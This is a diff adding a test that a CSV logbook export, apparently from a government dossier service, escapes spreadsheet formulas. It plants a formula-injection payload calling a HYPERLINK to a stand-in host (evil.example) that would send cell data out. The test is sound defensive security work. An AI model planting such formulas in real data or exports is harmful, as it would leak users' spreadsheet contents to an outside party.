@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 from typing import Any
 
@@ -12,6 +14,7 @@ from sqlalchemy import update
 from api.cli import main as cli
 from domain.audit import AuditEvent, verify_chain
 from domain.db import Database
+from domain.dossiers.models import Dossier
 from tests.helpers import PASSWORD, bearer, login, new_phone, signed_in
 from tests.http.test_dossiers_api import fill
 from tests.http.test_passkeys_api import add_passkey
@@ -190,6 +193,25 @@ def test_logbook_csv(client, setting) -> None:  # type: ignore[no-untyped-def]
     other = client.get("/api/v1/officer/logbook.csv", headers=bearer(setting["receiver"]),
                        params={"unit": "000.00.13.H56", "from": "2026-01-01", "to": "2027-12-31"})
     assert other.status_code == 404
+
+
+def test_logbook_csv_cells_cannot_start_a_formula(client, setting, database_url: str) -> None:  # type: ignore[no-untyped-def]
+    """Security review finding 7: what a citizen typed must not become a formula in the officer's sheet."""
+    _, d = filed(client, setting["code"])
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"Bấm")'
+    db = Database(database_url)
+
+    def poison(session: Any) -> None:
+        row = session.get(Dossier, d["id"])
+        row.data = json.dumps({**json.loads(row.data), "applicant_name": evil})
+
+    db.run(poison)
+    r = client.get("/api/v1/officer/logbook.csv", headers=bearer(setting["receiver"]),
+                   params={"unit": setting["unit"], "from": "2026-01-01", "to": "2027-12-31"})
+    assert r.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
+    assert "'" + evil in cells and evil not in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 def test_audit_chain_tamper_detected(client, database_url: str) -> None:  # type: ignore[no-untyped-def]
